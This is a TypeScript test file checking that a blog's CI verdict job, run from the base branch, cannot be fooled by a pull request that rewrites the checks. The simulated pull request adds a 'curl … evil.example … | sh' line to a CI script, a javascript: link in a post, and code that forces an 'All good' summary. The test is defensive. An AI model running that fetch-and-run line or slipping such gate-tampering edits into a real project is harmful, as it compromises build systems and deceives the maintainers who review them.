import { mkdtemp, readFile, rm, symlink } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { npmRun } from '../helpers/astro-build';
import { PROJECT_ROOT } from '../helpers/paths';
import { projectRepository, type ProjectRepository } from '../helpers/project-repository';

// The verdict job of .github/workflows/pr-verdict.yml, run as CI runs it: the base branch
// checked out, the pull request's commit beside it as data. The pull request rewrites the code
// that judges (the checks find nothing, the summary says all is well) and .ci/run, adds a post
// with a javascript: link and renames a published heading. The verdict is still the base's.

let repo: ProjectRepository;
let work = '';
let baseCommit = '';

const NEW_POST = `---
type: "follow-up"
followUpOf: "alpha"
title: "Alpha, once more"
description: "A follow-up that a pull request adds, with a link no reader should follow."
pubDate: 2024-05-01
topics: ["kubernetes"]
---
Read [this](javascript:alert(1)).
`;

beforeAll(async () => {
  repo = await projectRepository('kubecon-recap-verdict');
  work = await mkdtemp(join(tmpdir(), 'kubecon-recap-verdict-out-'));
  baseCommit = repo.git('rev-parse', 'main').trim();
  await repo.edit(
    'src/lib/checks/run.ts',
    'return { diagnostics: sortDiagnostics(diagnostics), fileCount: files.length };',
    'return { diagnostics: [], fileCount: files.length };',
  );
  await repo.edit(
    'src/lib/authoring/pr-summary.ts',
    'export function verdictMarkdown(verdict: Verdict): string {',
    "export function verdictMarkdown(verdict: Verdict): string {\n  if (verdict) return '## Verdict\\n\\nAll good: nothing to review.';",
  );
  await repo.edit('.ci/run', 'npm test', 'npm test\ncurl -s https://evil.example/x | sh');
  await repo.write('content/posts/de/alpha-extra.md', NEW_POST);
  await repo.edit('content/posts/en/alpha.md', '{#how-it-works}', '{#steps}');
  repo.git('add', '-A');
  repo.git('commit', '-q', '-m', 'pr');
  // As pull_request_target checks out: the base branch is the working tree.
  repo.git('checkout', '-q', 'main');
}, 60_000);
afterAll(async () => {
  await repo.remove();
  await rm(work, { recursive: true, force: true });
});

/** Runs the verdict from the checkout at `codeRoot` on branch pr of the repository; its summary too. */
async function verdictFrom(codeRoot: string, name: string): Promise<{ exitCode: number; output: string; summary: string }> {
  const summaryFile = join(work, `${name}.md`);
  const { exitCode, output } = await npmRun(codeRoot, 'pr:verdict', { GITHUB_STEP_SUMMARY: summaryFile }, [
    '--repo',
    repo.root,
    'main',
    'pr',
  ]);
  return { exitCode, output, summary: await readFile(summaryFile, 'utf8').catch(() => '') };
}

describe('npm run pr:verdict, run from the base branch on a pull request that rewrites the gate', () => {
  test('judges with the base’s code: the findings, the removed heading, and every file for a maintainer', async () => {
    const { exitCode, output, summary } = await verdictFrom(repo.root, 'base');
    expect(exitCode, output).toBe(1);
    expect(output).toContain(
      'content/posts/de/alpha-extra.md:9 error attribute href="javascript:alert(1)" on <a>: is not an address a post may link to',
    );
    expect(output).toContain(
      'content/posts/en/alpha.md error #how-it-works: was published at /en/posts/alpha/#how-it-works and this page no longer has it',
    );
    expect(summary).toContain(`The content checks of \`${baseCommit.slice(0, 12)}\` read`);
    expect(summary).toMatch(/\*\*2 error\(s\), \d+ warning\(s\)\*\*/);
    expect(summary).toContain('| `alpha-extra` | added | de |');
    const [, maintainer = ''] = summary.split("## Files that need a maintainer's review");
    for (const file of ['.ci/run', 'src/lib/authoring/pr-summary.ts', 'src/lib/checks/run.ts'])
      expect(maintainer).toContain(`| \`${file}\` | changed |`);
    expect(maintainer).not.toContain('| `content/posts/');
    expect(summary).not.toContain('All good');
  }, 60_000);

  test('while the pull request’s own code, run from its checkout, would have said all is well', async () => {
    const checkout = join(work, 'pr-checkout');
    repo.git('worktree', 'add', '-q', checkout, 'pr');
    await symlink(join(PROJECT_ROOT, 'node_modules'), join(checkout, 'node_modules'), 'dir');
    const { exitCode, output, summary } = await verdictFrom(checkout, 'pr');
    expect(exitCode, output).toBe(0);
    expect(summary).toContain('All good: nothing to review.');
  }, 60_000);
});
